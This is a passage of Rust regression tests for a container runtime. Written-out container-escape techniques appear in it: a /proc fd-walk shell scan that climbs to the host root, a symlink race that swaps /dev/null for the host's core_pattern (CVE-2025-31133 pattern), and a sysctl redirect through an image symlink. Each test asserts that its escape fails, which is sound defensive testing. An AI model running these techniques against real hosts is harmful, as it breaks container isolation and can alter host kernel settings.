    assert_eq!(ps_pids, pids, "ps: {ps}");
    assert!(
        ps.lines()
            .any(|r| r.split_whitespace().collect::<Vec<_>>() == ["1", "ps"]),
        "{ps}"
    );
}

#[test]
fn default_masked_and_readonly_paths_hold_inside() {
    // Check the masked paths of `ozz spec` that this kernel has at all.
    let mut script = String::new();
    let mut want = Vec::new();
    for file in [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
    ] {
        if Path::new(file).exists() {
            script += &format!("echo {file} $(stat -c '%F %t:%T' {file}) $(cat {file} | wc -c); ");
            want.push(format!("{file} character special file 1:3 0"));
        }
    }
    for dir in ["/proc/acpi", "/sys/firmware"] {
        if Path::new(dir).exists() {
            script += &format!("echo {dir} $(ls -A {dir} | wc -l); ");
            want.push(format!("{dir} 0"));
        }
    }
    script += "if echo 1 > /proc/sys/kernel/ns_last_pid 2>/dev/null; then echo sys-writable; else echo sys-ro; fi; \
               if echo h > /proc/sysrq-trigger 2>/dev/null; then echo sysrq-writable; else echo sysrq-ro; fi";
    want.push("sys-ro".to_string());
    want.push("sysrq-ro".to_string());
    let b = bundle("masks", &["sh", "-c", &script]);
    let out = b.run_ok();
    let lines: Vec<&str> = out.lines().map(str::trim).collect();
    // Files are covered by /dev/null (char 1:3), directories by an empty
    // read-only tmpfs; /proc/sys and /proc/sysrq-trigger are read-only.
    assert_eq!(lines, want, "{out}");
}

/// True when the ELF file asks for a program interpreter (PT_INTERP), i.e.
/// it is dynamically linked.
fn has_interpreter(path: &Path) -> bool {
    let data = std::fs::read(path).unwrap();
    let u16_at = |o: usize| u16::from_le_bytes([data[o], data[o + 1]]) as usize;
    let u32_at = |o: usize| u32::from_le_bytes(data[o..o + 4].try_into().unwrap());
    let phoff = u64::from_le_bytes(data[0x20..0x28].try_into().unwrap()) as usize;
    let (phentsize, phnum) = (u16_at(0x36), u16_at(0x38));
    (0..phnum).any(|i| u32_at(phoff + i * phentsize) == 3)
}

/// For every descriptor, root and working directory of every process it
/// can see, tries to reach the host's marker through
/// `/proc/PID/fd/N/../../..` (`..` past the root of a host directory
/// climbs to the host's root). Prints `REACHED` for a
/// hit, `pid1-fds N` (how many of the init's descriptors it could see: the
/// scan proves nothing if /proc/1/fd is closed to it) and `scanned`.
fn fd_walk_scan(marker: &HostMarker) -> String {
    let ups = "/..".repeat(24);
    format!(
        r#"for f in /proc/[0-9]*/fd/* /proc/[0-9]*/root /proc/[0-9]*/cwd; do
  if [ -f "$f{ups}{dir}/marker" ]; then echo "REACHED $f $(readlink $f)"; fi
done
n=0; for f in /proc/1/fd/*; do [ -e "$f" ] || [ -L "$f" ] && n=$((n+1)); done
echo "pid1-fds $n"; echo scanned"#,
        dir = marker.dir.display()
    )
}

/// Issue 14, escape 1: the waiting init of a created container held the
/// state directory's lock fd and the cgroup directory fd until exec; a
/// process in the container with CAP_SYS_PTRACE read the host through them.
#[test]
fn created_init_holds_no_host_directory_fd() {
    let marker = HostMarker::new("fdwalk");
    let mut b = bundle("fdwalk-created", &["sleep", "100"]);
    b.add_caps(&["CAP_SYS_PTRACE"]);
    b.create_ok();
    let out = ozz(&["exec", &b.id, "sh", "-c", &fd_walk_scan(&marker)]);
    let text = stdout(&out);
    eprintln!("scan: {text}{}", stderr(&out));
    assert!(out.status.success(), "exec: {}", stderr(&out));
    assert!(text.contains("scanned"), "{text}");
    let pid1_fds: u32 = text
        .lines()
        .find_map(|l| l.strip_prefix("pid1-fds "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(pid1_fds >= 3, "the init's fds were not visible: {text}");
    assert!(!text.contains("REACHED"), "the host was reached: {text}");
    assert_eq!(b.status(), "created");
    marker.assert_untouched();
}

/// The same through `ozz exec` children, caught between clone and execve:
/// a scanner in the container loops over /proc/*/fd/* while many execs run.
#[test]
fn exec_children_hold_no_host_directory_fd() {
    let marker = HostMarker::new("fdwalk-race");
    let scan = fd_walk_scan(&marker);
    let script = format!(
        "i=0; while [ ! -e /out/stop ]; do ( {scan} ) | grep REACHED >> /out/scan.log; \
         i=$((i+1)); echo $i > /out/loops; done; echo done > /out/finished; sleep 100"
    );
    let (mut b, out_dir) = out_bundle("fdwalk-exec", &script);
    b.add_caps(&["CAP_SYS_PTRACE"]);
    b.create_and_start();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(4);
    let execs = std::sync::atomic::AtomicU32::new(0);
    std::thread::scope(|s| {
        for _ in 0..3 {
            s.spawn(|| {
                while std::time::Instant::now() < deadline {
                    let out = ozz(&["exec", &b.id, "true"]);
                    assert!(out.status.success(), "exec: {}", stderr(&out));
                    execs.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                }
            });
        }
    });
    std::fs::write(out_dir.join("stop"), "").unwrap();
    for _ in 0..500 {
        if out_dir.join("finished").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let log = std::fs::read_to_string(out_dir.join("scan.log")).unwrap_or_default();
    let loops = std::fs::read_to_string(out_dir.join("loops")).unwrap_or_default();
    eprintln!(
        "{} execs, {} scanner loops, log:\n{log}",
        execs.into_inner(),
        loops.trim()
    );
    assert!(
        out_dir.join("finished").exists(),
        "the scanner never finished"
    );
    assert!(
        loops.trim().parse::<u32>().unwrap_or(0) > 0,
        "the scanner never ran"
    );
    assert!(!log.contains("REACHED"), "the host was reached:\n{log}");
    marker.assert_untouched();
}

/// Deletes (force) the named containers when dropped, pass or fail.
struct DeleteOnDrop(Vec<String>);

impl Drop for DeleteOnDrop {
    fn drop(&mut self) {
        for id in &self.0 {
            let _ = ozz(&["delete", "--force", id]);
        }
    }
}

/// Issue 14, escape 2 (the CVE-2025-31133 pattern): the container's /dev
/// is a bind of a host directory that another party changes. A racer keeps
/// swapping its `null` between the null device and a symlink to
/// /proc/sys/kernel/core_pattern while containers are created: a masked
/// path must never become that file (it would be a writable bind of the
/// host's core_pattern). Creates refused because `null` was the symlink
/// are fine.
#[test]
fn masked_paths_never_bind_a_swapped_dev_null() {
    // The baseline bound a swapped null within 40 creates in most runs; a
    // time bound keeps a slow machine's run short.
    const CREATES: usize = 300;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(25);
    let core_pattern = std::fs::read("/proc/sys/kernel/core_pattern").unwrap();
    let dev = HostDir::new("nullrace-dev");
    let node = dev.path.join("nullnode");
    let st = Command::new("mknod")
        .arg(&node)
        .args(["c", "1", "3"])
        .status()
        .unwrap();
    assert!(st.success(), "mknod");
    std::fs::hard_link(&node, dev.path.join("null")).unwrap();
    let mut b = bundle("nullrace", &["sleep", "100"]);
    let mounts = b.config["mounts"].as_array_mut().unwrap();
    mounts.retain(|m| {
        m["destination"] != "/dev" && !m["destination"].as_str().unwrap().starts_with("/dev/")
    });
    mounts.push(json!({
        "destination": "/dev", "type": "bind",
        "source": dev.path, "options": ["rbind", "rw"]
    }));
    let masked: Vec<String> = b.config["linux"]["maskedPaths"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap().to_string())
        .filter(|p| Path::new(p).is_file())
        .collect();
    assert!(!masked.is_empty(), "no masked file exists on this kernel");
    b.write();
    let stop = std::sync::atomic::AtomicBool::new(false);
    let (mut created, mut refused, mut hits) = (0, 0, Vec::new());
    std::thread::scope(|s| {
        s.spawn(|| {
            let (null, tmp) = (dev.path.join("null"), dev.path.join("null.tmp"));
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = std::fs::remove_file(&tmp);
                let _ = std::os::unix::fs::symlink("/proc/sys/kernel/core_pattern", &tmp);
                let _ = std::fs::rename(&tmp, &null);
                let _ = std::fs::hard_link(&node, &tmp);
                let _ = std::fs::rename(&tmp, &null);
            }
        });
        for i in 0..CREATES {
            if std::time::Instant::now() > deadline {
                break;
            }
            let id = format!("{}-{i}", b.id);
            let _guard = DeleteOnDrop(vec![id.clone()]);
            let out = ozz_quiet(&["create", "--bundle", b.dir.to_str().unwrap(), &id]);
            if !out.status.success() {
                refused += 1;
                continue;
            }
            created += 1;
            let state: serde_json::Value =
                serde_json::from_slice(&ozz(&["state", &id]).stdout).unwrap();
            let pid = state["pid"].as_i64().unwrap();
            for path in &masked {
                use std::os::unix::fs::{FileTypeExt, MetadataExt};
                let inside = format!("/proc/{pid}/root{path}");
                let meta = std::fs::metadata(&inside).unwrap();
                if !meta.file_type().is_char_device() || meta.rdev() != 0x103 {
                    hits.push(format!("{id}: {path} is not /dev/null ({meta:?})"));
                }
            }
            if !hits.is_empty() {
                break;
            }
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
    });
    eprintln!("{created} created, {refused} refused, hits: {hits:#?}");
    assert!(hits.is_empty(), "a masked path was bound to something else");
    assert!(created > 0, "no create succeeded: the race proves nothing");
    assert_eq!(
        std::fs::read("/proc/sys/kernel/core_pattern").unwrap(),
        core_pattern,
        "the host's core_pattern changed"
    );
}

/// Issue 14, escape 3: with proc mounted elsewhere (here /myproc) and the
/// image's /proc a plain directory, an image symlink
/// `/proc/sys/kernel/domainname -> /myproc/sys/kernel/hostname` redirected
/// the `kernel.domainname` sysctl. It must set the domain name, only.
#[test]
fn sysctl_is_not_redirected_by_an_image_symlink() {
    let rootfs = HostDir::rootfs_copy("sysctl-link");
    let kernel = rootfs.path.join("proc/sys/kernel");
    std::fs::create_dir_all(&kernel).unwrap();
    std::os::unix::fs::symlink("/myproc/sys/kernel/hostname", kernel.join("domainname")).unwrap();
    std::fs::create_dir_all(rootfs.path.join("myproc")).unwrap();
    // Runtimes reach their own descriptors through /proc/self.
    std::os::unix::fs::symlink("/myproc/self", rootfs.path.join("proc/self")).unwrap();
    let mut b = bundle(
        "sysctl-link",
        &[
            "sh",
            "-c",
            "cat /myproc/sys/kernel/hostname /myproc/sys/kernel/domainname",
        ],
    );
    b.config["root"]["path"] = json!(rootfs.path);
    b.config["hostname"] = json!("ozz-sysctl-host");
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "ozz-sysctl-domain"});
    let mounts = b.config["mounts"].as_array_mut().unwrap();
    mounts.retain(|m| m["destination"] != "/proc");
    mounts.push(json!({"destination": "/myproc", "type": "proc", "source": "proc"}));
    let out = b.run();
    eprintln!(
        "{:?} {:?} {:?}",
        out.status.code(),
        stdout(&out),
        stderr(&out)
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "ozz-sysctl-host\nozz-sysctl-domain\n");
    // The image's symlink is still there, untouched.
    assert!(kernel
        .join("domainname")
        .symlink_metadata()
        .unwrap()
        .is_symlink());
}
